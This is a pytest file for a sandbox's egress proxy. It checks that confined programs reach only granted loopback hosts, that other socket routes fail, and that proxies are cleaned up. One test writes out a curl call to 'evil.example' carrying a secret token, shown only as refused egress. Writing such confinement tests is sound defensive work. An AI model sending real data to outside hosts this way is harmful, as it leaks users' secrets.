"""A program that was granted hosts reaches them by the proxy, and nothing by other ways; real programs on loopback."""

from __future__ import annotations

import functools
import http.server
import json
import os
import secrets
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.egress.started import proxies_of

from inarch import Rights, ToolFailed
from inarch_lib.confinement import features
from inarch_plugins.sandbox_fs.workspace import FolderWorkspace

from .test_processes_protecting import as_users, needs, opened, place, run

assert place  # a fixture

pytestmark = [
    pytest.mark.once,
    pytest.mark.skipif(not features().network_namespace, reason=f"needs network namespaces: {features()}"),
]
PYTHON = "python3"


class Quiet(http.server.SimpleHTTPRequestHandler):
    """Serves files and says nothing."""

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def site(place: Path) -> Iterator[tuple[Path, int]]:
    """A server of files on loopback: its folder and its port."""
    folder = place / "site"
    folder.mkdir()
    (folder / "file").write_text("served\n")
    handler = functools.partial(Quiet, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
        thread.start()
        yield folder, server.server_port
        server.shutdown()
        thread.join()


class Workplace:
    """A workspace of a user in which programs may reach one host."""

    def __init__(self, place: Path, user: int, port: int) -> None:
        needs("full")
        self.user, self.root, self.home = user, place / "ws", place / "home"
        self.hosts = [f"localhost:{port}"]
        for folder in (self.root, self.home):
            folder.mkdir(exist_ok=True)
            os.chown(folder, user, user)

    def runs(self, *argv: str, **more: Any) -> dict[str, Any]:
        asked = {"root": str(self.root), "how": "full", "home": str(self.home), "argv": argv, "hosts": self.hosts}
        return run(self.user, [{**asked, **more}])[0]


@pytest.mark.needs("curl")
@as_users
def test_curl_reaches_what_is_granted(place: Path, site: tuple[Path, int], user: int) -> None:
    work = Workplace(place, user, site[1])
    url = f"http://localhost:{site[1]}/file"
    for words in (("curl", "-sS", url), ("curl", "-sS", "--proxytunnel", url)):
        ran = work.runs(*words)
        assert (ran["output"], ran["exit"]) == ("served\n", 0), ran
        assert ran["notes"] == [f"this command reached localhost:{site[1]}"]
    refused = work.runs("curl", "-sSf", "https://evil.example/secret?token=x")
    assert "403" in refused["errors"] and refused["exit"]
    told = " ".join(refused["notes"])
    assert "evil.example:443 was refused" in told and "must use the proxy" in told and "secret" not in told
    ignoring = work.runs("curl", "-sS", "--noproxy", "*", url)
    assert ignoring["exit"] and f"this command may reach only localhost:{site[1]}; it must use" in ignoring["notes"][0]


@as_users
def test_nothing_is_reached_beside_the_proxy(place: Path, site: tuple[Path, int], user: int) -> None:
    work = Workplace(place, user, site[1])
    shutil.copy(Path(__file__).with_name("reaching_attempts.py"), work.root)
    name = f"inarch-{secrets.token_hex(8)}"
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
        socket.socket(socket.AF_UNIX) as abstract,
        socket.socket(socket.AF_UNIX) as named,
        socket.create_server(("127.0.0.1", 0)) as other,
    ):
        datagrams.bind(("127.0.0.1", 0))
        threading.Thread(target=_echo, args=(datagrams,), daemon=True).start()
        abstract.bind(f"\0{name}")
        abstract.listen()
        named.bind(str(work.root / "socket"))
        os.chown(work.root / "socket", user, user)
        named.listen()
        elsewhere = f"localhost:{other.getsockname()[1]}"
        things = {
            "port": site[1], "datagrams": datagrams.getsockname()[1], "abstract": name,
            "named": str(work.root / "socket"), "address": _own_address(), "other": elsewhere,
        }  # fmt: skip
        beside = FolderWorkspace.open(str(place / "site"))  # a program with another proxy, beside it
        ending = threading.Event()
        thread = threading.Thread(target=_beside, args=(beside, elsewhere, ending))
        thread.start()
        try:
            ran = work.runs(PYTHON, "reaching_attempts.py", json.dumps(things))
        finally:
            ending.set()
            thread.join()
            beside.close()
    assert ran["exit"] == 0, ran
    told = json.loads(ran["output"])
    assert told["done"] == [], told


def _echo(end: socket.socket) -> None:
    try:
        while True:
            data, whence = end.recvfrom(16)
            if whence is None:
                return  # it was closed meanwhile, and its number is another socket's now
            end.sendto(data, whence)
    except OSError:
        pass


def _own_address() -> str:
    """Return an address of this machine that is not loopback, or the documentation's where it has none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        try:
            end.connect(("192.0.2.1", 9))  # nothing is sent
            return str(end.getsockname()[0])
        except OSError:
            return "192.0.2.1"


def _beside(workspace: FolderWorkspace, host: str, ending: threading.Event) -> None:
    from inarch import Cancelled

    try:
        workspace.run(["sleep", "60"], Rights(executes=True, hosts=(host,)), cancelled=ending, timeout_s=90)
    except Cancelled:
        pass


def test_no_proxy_is_left_when_its_program_has_ended(place: Path) -> None:
    (place / "ws").mkdir()
    workspace = FolderWorkspace.open(str(place / "ws"))
    try:
        daemon = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nos.fork()\ntime.sleep(600)"
        rights = Rights(executes=True, hosts=("pypi.example",))
        assert workspace.run([PYTHON, "-c", daemon], rights).exit_code == 0
        assert proxies_of(os.getpid()) == []
        with pytest.raises(ToolFailed, match="there is no program"):
            workspace.run(["no-such-program"], rights)
        with pytest.raises(ToolFailed):
            workspace.run([PYTHON, "-c", "import time; time.sleep(600)"], rights, timeout_s=-1)
        assert workspace.run([PYTHON, "-c", "import time; time.sleep(600)"], rights, timeout_s=0.5).timed_out
        assert proxies_of(os.getpid()) == []
    finally:
        workspace.close()


def test_without_namespaces_it_is_refused_with_the_reason(place: Path) -> None:
    (place / "ws").mkdir()
    workspace = opened(str(place / "ws"), "bare")
    try:
        with pytest.raises(ToolFailed, match="can't be held to hosts here") as caught:
            workspace.run(["true"], Rights(executes=True, hosts=("pypi.example",)))
        assert "inarch doctor" in caught.value.remedy and "network = true" in caught.value.remedy
        assert proxies_of(os.getpid()) == []
    finally:
        workspace.close()
